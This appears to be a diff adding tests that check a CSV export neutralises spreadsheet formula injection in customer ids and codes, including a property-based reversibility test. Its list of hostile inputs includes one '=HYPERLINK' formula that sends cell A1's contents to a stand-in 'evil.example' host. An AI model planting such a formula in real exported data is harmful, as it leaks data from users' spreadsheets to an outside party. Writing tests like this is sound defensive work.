@@ -8,6 +8,8 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 from sqlalchemy import Connection, Engine, insert, select
 from store_helpers import make_pool
 
@@ -140,3 +142,62 @@ def test_large_export_streams_every_row(engine: Engine, folder: Path) -> None:
     rows = _read(out)[1:]
     assert [row[2] for row in rows] == codes
     assert {row[6] for row in rows} == {""}
+
+
+# -- values a spreadsheet would run -----------------------------------------------
+
+#: Customer ids (and codes) that a spreadsheet would take as formulas, as OWASP lists them.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+SUM(1+1)",
+    "-2+3",
+    "@SUM(1)",
+    "\tTAB",
+    "\rCR",
+    "\uff1dFULLWIDTH",
+    "'quoted",
+]
+
+
+def _unmarked(cell: str) -> str:
+    """A cell's stored value: one leading quote, when present, is the export's mark."""
+    return cell[1:] if cell.startswith("'") else cell
+
+
+def test_values_a_spreadsheet_would_run_are_neutralised(engine: Engine, folder: Path) -> None:
+    """Before, ``=HYPERLINK(...)`` as a customer id went into the file as it was."""
+    make_pool(engine, "spring", ["=CODE1", "+CODE2", "-CODE3", "@CODE4", "PLAIN5"] + [
+        f"C{i}" for i in range(len(HOSTILE))
+    ])  # fmt: skip
+    given = claim(engine, "spring", "-mailing", [*HOSTILE, "plain", "bob", "a\r=1+1"])
+    out = folder / "issuances.csv"
+
+    assert export_issuances(engine, out) == len(HOSTILE) + 3
+
+    header, *rows = _read(out)
+    assert tuple(header) == COLUMNS
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(pools.export.FORMULA_STARTS), row
+    by_customer = {_unmarked(row[3]): row for row in rows}
+    assert sorted(by_customer) == sorted(given)
+    for customer, row in by_customer.items():
+        plain = customer in ("plain", "bob", "a\r=1+1")
+        assert row[3] == (customer if plain else "'" + customer)
+        assert (row[1], row[4]) == ("spring", "'-mailing")
+        assert _unmarked(row[2]) == given[customer]
+    # The codes that look like formulas were handed out and marked too.
+    marked_codes = {row[2] for row in rows if row[2].startswith("'")}
+    assert marked_codes <= {"'=CODE1", "'+CODE2", "'-CODE3", "'@CODE4"} and marked_codes
+    # A carriage return inside a value stays inside its quoted cell: a
+    # spreadsheet does not start a row (and a cell "=1+1") there.
+    assert b'"a\r=1+1"' in out.read_bytes()
+
+
+@given(st.text(max_size=20))
+def test_neutralising_is_reversible_and_never_starts_a_formula(value: str) -> None:
+    shown = pools.export.spreadsheet_safe(value)
+    assert not shown.startswith(pools.export.FORMULA_STARTS)
+    assert _unmarked(shown) == value
+    if not value.startswith((*pools.export.FORMULA_STARTS, "'")):
+        assert shown == value  # everything else is left exactly as stored
